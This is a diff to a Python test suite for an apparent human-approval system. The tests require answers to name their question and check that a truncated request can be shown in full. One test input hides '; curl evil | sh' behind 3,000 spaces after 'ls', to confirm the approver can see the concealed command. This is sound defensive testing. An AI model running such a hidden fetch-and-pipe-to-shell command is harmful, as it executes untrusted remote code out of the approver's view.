@@ -253,12 +253,51 @@ def test_a_question_is_told_and_answered(told):
     assert "text='a'" in asked["what"]
     assert asked["inputs"] == "", "what is asked says it"
 
-    told.say({"t": "do", "id": 7, "verb": "approve", "run": asked["run"], "node": asked["node"]})
+    told.say(
+        {
+            "t": "do",
+            "id": 7,
+            "verb": "approve",
+            "run": asked["run"],
+            "node": asked["node"],
+            "question": asked["question"],
+        }
+    )
 
     said = told.wait(lambda m: m["t"] == "said")
     assert (said["id"], said["ok"]) == (7, True)
     assert run.result(60) == "published a"
     told.wait(lambda m: m.get("pending") == [])
+
+
+@pytest.mark.parametrize("question", ["", "another"])
+def test_q74_an_answer_that_names_no_question_or_another_is_refused(told, question):
+    told.say({"t": "hello"})
+    run = paper.start(text="a")
+    asked = told.wait(lambda m: m.get("pending"))["pending"][0]
+    order = {"t": "do", "id": 1, "verb": "approve", "run": run.id, "node": asked["node"]}
+
+    told.say({**order, "question": question})
+
+    assert not told.wait(lambda m: m["t"] == "said")["ok"]
+    assert run.pending()
+    run.cancel()
+
+
+def test_q78_the_whole_of_a_question_is_told_when_it_is_asked_for(told):
+    told.say({"t": "hello"})
+    run = paper.start(text="ls " + " " * 3_000 + "; curl evil | sh")
+    asked = told.wait(lambda m: m.get("pending"))["pending"][0]
+    assert "characters not shown⟩" in asked["what"]
+    order = {"t": "do", "id": 3, "verb": "whole", "run": run.id, "node": asked["node"]}
+
+    told.say({**order, "question": asked["question"]})
+
+    whole = told.wait(lambda m: m["t"] == "said")
+    assert whole["ok"]
+    assert "text, 3,019 characters" in whole["text"]
+    assert whole["text"].rstrip().endswith("; curl evil | sh")
+    run.cancel()
 
 
 def test_a_rejection_carries_its_reason(told):
@@ -274,6 +313,7 @@ def test_a_rejection_carries_its_reason(told):
             "run": asked["run"],
             "node": asked["node"],
             "value": "not yet",
+            "question": asked["question"],
         }
     )
 
@@ -414,12 +454,12 @@ def test_a_run_is_watched_over_the_same_comm(told):
 
     snap = said("snap")
     assert snap["names"] == ["paper", "publish"]
-    node = run.pending()[0].id
+    node, _, _, _, question = snap["asks"][0]
     told.say(
         {
             "t": "view",
             "run": run.id,
-            "message": {"t": "approve", "id": node, "ask": "p1-1"},
+            "message": {"t": "approve", "id": node, "ask": "p1-1", "question": question},
         }
     )
     assert said("told")["ok"]
@@ -468,7 +508,7 @@ def test_a_choice_is_taken_by_the_text_that_is_shown(told, place):
     assert asked["choices"] == ["two spaces", "hidden⟨U+202E⟩"]
 
     order = {"t": "do", "id": 1, "verb": "answer", "run": run.id, "node": asked["node"]}
-    told.say({**order, "value": asked["choices"][place]})
+    told.say({**order, "question": asked["question"], "value": asked["choices"][place]})
 
     assert told.wait(lambda m: m["t"] == "said")["ok"]
     assert run.result(60) == ["two  spaces", "hidden\u202e"][place]
